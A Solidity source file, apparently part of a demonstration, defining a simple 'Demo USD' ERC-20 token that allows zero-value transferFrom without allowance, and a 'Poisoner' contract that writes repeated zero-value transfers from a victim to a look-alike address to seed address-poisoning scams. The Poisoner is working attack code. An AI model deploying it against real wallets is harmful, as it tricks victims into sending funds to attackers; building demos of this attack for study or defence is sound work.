// SPDX-License-Identifier: MIT
// The demo's on-chain cast: a stablecoin-like ERC-20 for steady traffic, and the contract an address
// poisoner uses to write zero-value transfers into a victim's history.
pragma solidity 0.8.30;

/// "Demo USD": an ERC-20 with 6 decimals. Like many real tokens, `transferFrom` of 0 needs no allowance
/// (0 <= 0): the hole zero-value address poisoning goes through.
contract DemoStable {
    string public constant name = "Demo USD";
    string public constant symbol = "dUSD";
    uint8 public constant decimals = 6;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(uint256 supply) {
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _move(msg.sender, to, amount);
        return true;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        require(allowance[from][msg.sender] >= amount, "allowance");
        allowance[from][msg.sender] -= amount;
        _move(from, to, amount);
        return true;
    }

    function _move(address from, address to, uint256 amount) private {
        require(balanceOf[from] >= amount, "balance");
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
    }
}

interface IERC20From {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

/// What an address poisoner deploys: one call writes `times` zero-value transfers from the victim to the
/// look-alike on each token, so the look-alike shows up in the victim's wallet history.
contract Poisoner {
    function poison(address[] calldata tokens, address victim, address lookalike, uint256 times) external {
        for (uint256 i = 0; i < tokens.length; i++) {
            for (uint256 k = 0; k < times; k++) {
                IERC20From(tokens[i]).transferFrom(victim, lookalike, 0);
            }
        }
    }
}
